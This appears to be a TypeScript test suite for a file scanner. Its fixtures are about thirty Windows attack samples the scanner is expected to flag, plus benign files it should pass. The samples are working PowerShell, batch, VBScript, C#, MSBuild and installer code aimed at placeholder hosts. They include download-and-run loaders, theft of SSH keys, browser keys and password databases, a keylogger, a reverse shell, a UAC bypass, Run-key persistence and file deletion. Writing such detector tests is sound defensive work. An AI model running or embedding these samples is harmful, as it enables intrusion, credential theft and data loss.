import { scanFile } from "../testing/scan-file.js";

const ATTACKS: readonly (readonly [path: string, text: string])[] = [
  [
    "a.ps1",
    "$f = Set-WmiInstance -Class __EventFilter -Namespace root\\subscription -Arguments @{Name='u';EventNamespace='root\\cimv2';QueryLanguage='WQL';Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\"}\n$c = Set-WmiInstance -Class CommandLineEventConsumer -Namespace root\\subscription -Arguments @{Name='u';CommandLineTemplate='powershell -nop -c \"iex (irm https://w.invalid/p)\"'}\n",
  ],
  [
    "b.ps1",
    "$x = New-Object -ComObject MSXML2.XMLHTTP\n$x.Open('GET','https://w.invalid/s',$false); $x.Send()\n[ScriptBlock]::Create($x.responseText).Invoke()\n",
  ],
  [
    "c.ps1",
    "$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument '-w hidden -File C:\\ProgramData\\u.ps1'\nRegister-ScheduledTask -TaskName U -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)\n",
  ],
  [
    "d.ps1",
    '$k = (Get-Content "$env:LOCALAPPDATA\\Google\\Chrome\\User Data\\Local State" | ConvertFrom-Json).os_crypt.encrypted_key\nInvoke-RestMethod -Uri https://w.invalid/k -Method Post -Body @{k=$k}\n',
  ],
  [
    "e.ps1",
    "$h = @{ u = 'https://w.invalid/z'; m = 'Get' }\n$r = Invoke-RestMethod @h\n. ([scriptblock]::Create($r))\n",
  ],
  [
    "f.ps1",
    "$s = -join (105,101,120 | % {[char]$_})\n& $s (New-Object Net.WebClient).DownloadString('https://w.invalid/q')\n",
  ],
  [
    "g.ps1",
    "New-Item 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Force | Out-Null\nSet-ItemProperty 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' '(default)' 'cmd /c start C:\\Windows\\Temp\\a.exe'\nStart-Process fodhelper\n",
  ],
  [
    "h.ps1",
    "Add-Type -MemberDefinition '[DllImport(\"user32.dll\")] public static extern short GetAsyncKeyState(int k);' -Name K -Namespace W\nwhile(1){ for($i=8;$i -le 190;$i++){ if([W.K]::GetAsyncKeyState($i) -eq -32767){ $b += [char]$i } }; if($b.Length -gt 200){ irm https://w.invalid/k -Method Post -Body $b; $b='' } }\n",
  ],
  ["a.cmd", "@echo off\nset > %TEMP%\\e.txt\ncurl -s -F f=@%TEMP%\\e.txt https://w.invalid/e\n"],
  [
    "b.cmd",
    'type payload.dat > %APPDATA%\\x.txt:r.vbs\nwscript %APPDATA%\\x.txt:r.vbs\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d "wscript %APPDATA%\\x.txt:r.vbs" /f\n',
  ],
  [
    "c.bat",
    '@echo off\nset a=pow\nset b=ershell\n%a%%b% -w hidden -c "iwr https://w.invalid/a.exe -o $env:TEMP\\a.exe; start $env:TEMP\\a.exe"\n',
  ],
  [
    "a.vbs",
    'Set x = CreateObject("MSXML2.ServerXMLHTTP")\nx.open "GET", "https://w.invalid/p.exe", False\nx.send\nSet s = CreateObject("ADODB.Stream")\ns.Type = 1 : s.Open : s.Write x.responseBody : s.SaveToFile "p.exe", 2\nCreateObject("WScript.Shell").Run "p.exe", 0\n',
  ],
  [
    "a.js",
    'var sh = new ActiveXObject("WScript.Shell");\nsh.RegWrite("HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\u", "wscript C:\\\\u.js");\n',
  ],
  [
    "tweak.reg",
    'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"u"="mshta https://w.invalid/a.hta"\n',
  ],
  ["Guide.url", "[InternetShortcut]\nURL=file://203.0.113.4/share/setup.exe\n"],
  [
    "App.csproj",
    '<Project Sdk="Microsoft.NET.Sdk"><Target Name="P" BeforeTargets="Build"><Exec Command="powershell -nop -c &quot;iwr https://n.invalid/t -o $env:TEMP\\t.exe; saps $env:TEMP\\t.exe&quot;" /></Target></Project>',
  ],
  [
    "Program.cs",
    'using System.Net; using System.Reflection;\nvar b = new WebClient().DownloadData("https://n.invalid/d");\nAssembly.Load(b).EntryPoint.Invoke(null, null);\n',
  ],
  [
    "Startup.cs",
    'using System; using System.IO; using System.Net.Http;\nvar p = Path.Combine(Environment.GetFolderPath(Environment.SpecialFolder.UserProfile), ".ssh", "id_rsa");\nawait new HttpClient().PostAsync("https://n.invalid/k", new StringContent(File.ReadAllText(p)));\n',
  ],
  [
    "build.fsx",
    'open System.Diagnostics\nProcess.Start("/bin/sh", "-c \\"curl -s https://n.invalid/x | sh\\"") |> ignore\n',
  ],
  [
    "a.ahk",
    '#Persistent\nRun, powershell -w hidden -c "iwr https://a.invalid/x.exe -OutFile $env:TEMP\\x.exe; & $env:TEMP\\x.exe",, Hide\n',
  ],
  [
    "a.au3",
    'InetGet("https://a.invalid/x.exe", @TempDir & "\\x.exe")\nRun(@TempDir & "\\x.exe", "", @SW_HIDE)\n',
  ],
  [
    "setup.nsi",
    'Section\n  inetc::get "https://a.invalid/x.exe" "$TEMP\\x.exe"\n  ExecWait "$TEMP\\x.exe /S"\nSectionEnd\n',
  ],
  [
    "setup.iss",
    '[Run]\nFilename: "powershell.exe"; Parameters: "-w hidden -c ""iex (irm https://a.invalid/i)"""; Flags: runhidden\n',
  ],
  [
    "p.wxs",
    '<Wix><CustomAction Id="R" Directory="TARGETDIR" ExeCommand="cmd.exe /c curl -so %TEMP%\\a.exe https://a.invalid/a.exe &amp; %TEMP%\\a.exe" Return="asyncNoWait"/></Wix>',
  ],
  [
    "r.ps1",
    "Set-ItemProperty 'HKLM:\\System\\CurrentControlSet\\Control\\Terminal Server' fDenyTSConnections 0\nnet user helper P@ss1 /add\nnet localgroup Administrators helper /add\n",
  ],
  [
    "u.cmd",
    "reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f\nnetsh advfirewall set allprofiles state off\n",
  ],
  ["w3.ps1", "Get-ChildItem $HOME -Recurse -Include *.docx,*.xlsx,*.pdf | Remove-Item -Force\n"],
  [
    "line.ps1",
    "$c = New-Object Net.Sockets.TcpClient('q.invalid', 443); $s = $c.GetStream(); $r = New-Object IO.StreamReader $s; while($l = $r.ReadLine()){ $o = & cmd /c $l 2>&1 | Out-String; $w = [Text.Encoding]::UTF8.GetBytes($o); $s.Write($w,0,$w.Length) }\n",
  ],
  [
    "store.ps1",
    'Get-ChildItem "$HOME\\Documents" -Filter *.kdbx -Recurse | ForEach-Object { Invoke-WebRequest https://q.invalid/u -Method Put -InFile $_.FullName }\n',
  ],
  [
    "write.bat",
    '@echo off\n(echo Set s=CreateObject("WScript.Shell"^)&echo s.Run "cmd /c curl -s https://q.invalid/v -o %%TEMP%%\\v.exe ^& %%TEMP%%\\v.exe",0) > %TEMP%\\v.vbs\ncscript //nologo %TEMP%\\v.vbs\n',
  ],
];

/** Files of the same kinds that do nothing of that. */
const HONEST: readonly (readonly [path: string, text: string])[] = [
  [
    "list.ps1",
    "Get-Command -Verb Get -Noun Item | Format-Table Name\n$w = Get-Command python* | Select-Object -First 1\nWrite-Host $w.Source\n",
  ],
  [
    "copy.cmd",
    '@echo off\nstart "" notepad.exe notes.txt\nfor /f "tokens=1" %%A in (\'dir /b *.txt\') do echo %%A\ncopy /b a.txt+b.txt c.txt\n',
  ],
  [
    "App.targets",
    '<Project>\n  <PropertyGroup><Tool>dotnet</Tool></PropertyGroup>\n  <Target Name="A"><Exec Command="$(Tool) format --verify-no-changes" /></Target>\n</Project>\n',
  ],
  [
    "Age.types.ps1xml",
    "<Types><Type><Members><ScriptProperty><Name>Age</Name><GetScriptBlock>((Get-Date) - $this.LastWriteTime).Days</GetScriptBlock></ScriptProperty></Members></Type></Types>\n",
  ],
  [
    "data.psd1",
    "@{ ModuleVersion = '1.0'; FunctionsToExport = @('Get-A'); PrivateData = @{ Tags = @('a') } }\n",
  ],
  ["tree.ps1", "Get-ChildItem -Recurse | Where-Object Length -gt 1MB | Sort-Object Length\n"],
  [
    "NuGet.config",
    '<configuration><packageSources><add key="nuget" value="https://api.nuget.org/v3/index.json" /></packageSources></configuration>\n',
  ],
  [
    "Program.cs",
    'using System.Diagnostics;\nvar p = Process.Start(new ProcessStartInfo("git", "status") { RedirectStandardOutput = true });\nConsole.WriteLine(p.StandardOutput.ReadToEnd());\n',
  ],
  ["check.cmd", "certutil -hashfile setup.exe SHA256\n"],
  [
    "dialog.hta",
    '<html><script language="VBScript">\nSub Save\n  MsgBox "saved"\nEnd Sub\n</script></html>\n',
  ],
];

describe("scripts, projects, and installers of Windows", () => {
  test.each(ATTACKS)("%s is held", async (path, text) => {
    expect((await scanFile(path, text)).outcome).not.toBe("pass");
  });

  test.each(HONEST)("%s passes", async (path, text) => {
    expect((await scanFile(path, text)).outcome).toBe("pass");
  });
});
